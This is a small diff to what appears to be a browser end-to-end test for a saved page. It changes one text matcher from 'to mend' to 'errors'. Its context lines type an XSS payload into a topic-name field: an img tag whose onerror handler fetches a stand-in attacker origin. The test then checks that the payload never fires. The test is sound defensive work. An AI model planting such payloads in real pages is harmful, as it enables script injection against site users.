@@ -129,7 +129,7 @@ describe('a saved page', { timeout: 120_000 }, () => {
     await page.locator('#field-topic-name').fill(`<img src=x onerror="fetch('${evilOrigin}/name')">Name`)
     await page.locator('#field-topic-name').blur()
     await page.getByRole('button', { name: 'Undo' }).click()
-    await page.getByText(/\d to mend/).waitFor()
+    await page.getByText(/\d errors?/).waitFor()
     expect(calls).toEqual([])
     await fetch(`${evilOrigin}/heard`)
     expect(calls).toEqual(['/heard'])
